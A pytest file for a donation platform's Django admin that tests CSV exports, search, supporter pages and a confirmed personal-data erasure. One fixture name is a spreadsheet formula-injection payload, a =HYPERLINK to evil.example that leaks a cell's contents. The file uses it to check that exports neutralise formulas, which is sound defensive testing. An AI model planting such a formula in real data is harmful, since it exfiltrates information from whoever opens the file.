"""The ledger in the admin, as an operator uses it: CSV exports safe to open in a
spreadsheet, search and filters, a supporter's page with their gifts and totals, and the
"Erase personal data" action with its confirmation."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission

from readerfund.payments.models import PaymentAttempt, PlanStatus, RecurringPlan
from readerfund.supporters.models import Supporter
from readerfund.supporters.privacy import erased_email
from readerfund.supporters.tests.test_privacy import sandbox_gift

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your receipt")'


@pytest.fixture
def operator(client):
    user = get_user_model().objects.create_superuser("operator", "op@newsroom.example", "pw")
    client.force_login(user)
    return client


@pytest.fixture
def ledger():
    """Alice: $5 once and $120 a year (which she canceled, too expensive); Bob: £7 once;
    Mallory, whose name is a spreadsheet formula; and a checkout Carol gave up on."""
    sandbox_gift("alice@example.org", name="Alice Liddell", amount=500)
    sandbox_gift("alice@example.org", name="Alice Liddell", amount=12000, frequency="annual")
    RecurringPlan.objects.update(cancel_reason="too_expensive")
    sandbox_gift("bob@example.org", name="Bob Dodgson", amount=700, currency="GBP")
    sandbox_gift("mallory@example.org", name=HOSTILE_NAME, amount=300)
    sandbox_gift("carol@example.org", name="Carol", amount=2500, paid=False)
    return Supporter.objects.get(email="alice@example.org")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _action(client, model: str, action: str, ids, **extra):
    return client.post(
        f"/admin/{model}/",
        {"action": action, "_selected_action": [str(i) for i in ids], **extra},
    )


# ---- CSV -----------------------------------------------------------------------------------


def test_supporters_export_as_csv_with_formulas_defused(operator, ledger):
    ids = Supporter.objects.values_list("pk", flat=True)

    rows = _csv(_action(operator, "supporters/supporter", "export_csv", ids))

    assert rows[0] == ["email", "name", "email_consent", "language", "created_at", "erased_at"]
    by_email = {row[0]: row for row in rows[1:]}
    assert set(by_email) == {"alice@example.org", "bob@example.org", "mallory@example.org"}
    assert by_email["alice@example.org"][1:4] == ["Alice Liddell", "True", "en"]
    # a spreadsheet shows the formula as text instead of running it
    assert by_email["mallory@example.org"][1] == "'" + HOSTILE_NAME


@pytest.mark.parametrize(
    ("model", "first_columns", "expected_rows"),
    [
        ("contribution", ["created_at", "received_at", "supporter__email"], 4),
        ("recurringplan", ["started_at", "supporter__email", "supporter__name"], 1),
        ("paymentattempt", ["created_at", "public_id", "email"], 5),
    ],
)
def test_each_ledger_list_exports_as_csv(operator, ledger, model, first_columns, expected_rows):
    model_class = {
        "contribution": ledger.contributions.model,
        "recurringplan": RecurringPlan,
        "paymentattempt": PaymentAttempt,
    }[model]
    ids = model_class.objects.values_list("pk", flat=True)

    rows = _csv(_action(operator, f"payments/{model}", "export_csv", ids))

    assert rows[0][: len(first_columns)] == first_columns
    assert len(rows) == 1 + expected_rows
    if model == "recurringplan":
        row = dict(zip(rows[0], rows[1], strict=True))
        assert (row["supporter__email"], row["amount"], row["frequency"]) == (
            "alice@example.org", "12000", "annual",
        )  # fmt: skip
        assert row["cancel_reason"] == "too_expensive"


# ---- search and filters --------------------------------------------------------------------


def _listed(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return str(response.content.decode())


def test_supporters_are_found_by_name_address_and_the_providers_ids(operator, ledger):
    payment_id = ledger.contributions.filter(frequency="one_off").get().provider_payment_id
    plan_id = ledger.plans.get().provider_plan_id

    for term in ("Liddell", "alice@ex", payment_id, plan_id):
        page = _listed(operator, f"/admin/supporters/supporter/?q={term}")
        assert "alice@example.org" in page, term
        assert "bob@example.org" not in page, term


def test_gifts_plans_and_checkouts_are_found_by_supporter_and_provider_id(operator, ledger):
    plan_id = ledger.plans.get().provider_plan_id
    carol = PaymentAttempt.objects.get(email="carol@example.org")

    gifts = _listed(operator, "/admin/payments/contribution/?q=Dodgson")
    plans = _listed(operator, f"/admin/payments/recurringplan/?q={plan_id}")
    attempts = _listed(operator, f"/admin/payments/paymentattempt/?q={carol.public_id}")

    assert "bob@example.org" in gifts and "alice@example.org" not in gifts
    assert "alice@example.org" in plans
    assert "carol@example.org" in attempts and "bob@example.org" not in attempts


def test_filters_by_erasure_currency_and_frequency(operator, ledger):
    from readerfund.supporters.privacy import supporter_erase

    supporter_erase(Supporter.objects.get(email="bob@example.org"))

    erased = _listed(operator, "/admin/supporters/supporter/?erased=yes")
    kept = _listed(operator, "/admin/supporters/supporter/?erased=no")
    pounds = _listed(operator, "/admin/payments/contribution/?currency__exact=GBP")
    annual = _listed(operator, "/admin/payments/recurringplan/?frequency__exact=annual")

    assert "@erased.invalid" in erased and "alice@example.org" not in erased
    assert "alice@example.org" in kept and "@erased.invalid" not in kept
    assert "£7" in pounds and "$5" not in pounds
    assert "alice@example.org" in annual


# ---- the supporter's page and the plans list ------------------------------------------------


def test_a_supporters_page_shows_their_gifts_plans_and_totals(operator, ledger):
    page = _listed(operator, f"/admin/supporters/supporter/{ledger.pk}/change/")

    assert "Alice Liddell" in page
    assert "$5" in page and "$120" in page  # the gifts and the plan, inline
    assert "too_expensive" in page
    assert "$125 received" in page  # the one-off and the plan's first payment
    assert "$10 a month in active plans" in page
    assert 'name="_save"' not in page  # read-only


def test_the_plans_list_shows_the_monthly_equivalent_and_why_it_ended(operator, ledger):
    page = _listed(operator, "/admin/payments/recurringplan/")

    assert "$120" in page
    assert "$10" in page  # an annual $120 is $10 a month
    assert "too_expensive" in page


# ---- data rights -----------------------------------------------------------------------------


def test_erasing_asks_for_confirmation_then_erases(operator, ledger):
    # when the operator picks the action
    asked = _action(operator, "supporters/supporter", "erase_personal_data", [ledger.pk])

    # then a confirmation page names who and which plans, and nothing is erased yet
    assert asked.status_code == 200
    page = asked.content.decode()
    assert "alice@example.org" in page and "Yes, erase" in page
    assert ledger.plans.get().provider_plan_id in page
    assert Supporter.objects.get(pk=ledger.pk).erased_at is None

    # when they confirm
    done = _action(
        operator, "supporters/supporter", "erase_personal_data", [ledger.pk], confirm="yes"
    )

    # then the supporter is erased, the admin says so and its log names no address
    assert done.status_code == 302
    ledger.refresh_from_db()
    assert (ledger.email, ledger.name) == (erased_email(ledger.pk), "")
    assert ledger.erased_at is not None
    assert ledger.plans.get().status == PlanStatus.CANCELED
    followed = operator.get(done["Location"]).content.decode()
    assert "The personal data of 1 supporter was erased." in followed
    entry = LogEntry.objects.get()
    assert entry.object_repr == erased_email(ledger.pk)
    assert not LogEntry.objects.filter(object_repr__icontains="alice@").exists()


def test_an_erasure_the_provider_blocks_is_reported_and_changes_nothing(operator, ledger):
    RecurringPlan.objects.create(
        supporter=ledger, provider="gone", provider_plan_id="gone_7", frequency="monthly",
        amount=400, currency="USD", status=PlanStatus.ACTIVE,
    )  # fmt: skip

    done = _action(
        operator, "supporters/supporter", "erase_personal_data", [ledger.pk], confirm="yes"
    )

    followed = operator.get(done["Location"]).content.decode()
    assert "gone_7" in followed
    ledger.refresh_from_db()
    assert (ledger.email, ledger.erased_at) == ("alice@example.org", None)


def test_only_those_who_may_change_supporters_can_erase(client, ledger):
    viewer = get_user_model().objects.create_user("viewer", "v@newsroom.example", "pw")
    viewer.is_staff = True
    viewer.save()
    viewer.user_permissions.add(Permission.objects.get(codename="view_supporter"))
    client.force_login(viewer)

    page = _listed(client, "/admin/supporters/supporter/")
    attempt = _action(
        client, "supporters/supporter", "erase_personal_data", [ledger.pk], confirm="yes"
    )

    assert "erase_personal_data" not in page
    assert "export_csv" in page
    assert attempt.status_code in (200, 302)
    ledger.refresh_from_db()
    assert ledger.erased_at is None


def test_the_supporters_data_downloads_as_json(operator, ledger):
    response = _action(operator, "supporters/supporter", "download_data", [ledger.pk])

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="supporter-{ledger.pk}'
    )
    exported = json.loads(response.content)
    assert exported["supporter"]["email"] == "alice@example.org"
    assert sorted(c["amount"] for c in exported["contributions"]) == [500, 12000]


def test_the_erase_confirmation_speaks_russian(operator, ledger):
    # Passes once the coordinator has merged the Russian translations (/tmp/rf/po).
    asked = operator.post(
        "/admin/supporters/supporter/",
        {"action": "erase_personal_data", "_selected_action": [str(ledger.pk)]},
        headers={"Accept-Language": "ru"},
    )

    page = asked.content.decode()
    assert "Да, стереть" in page
    assert "Суммы, даты и кампании остаются" in page
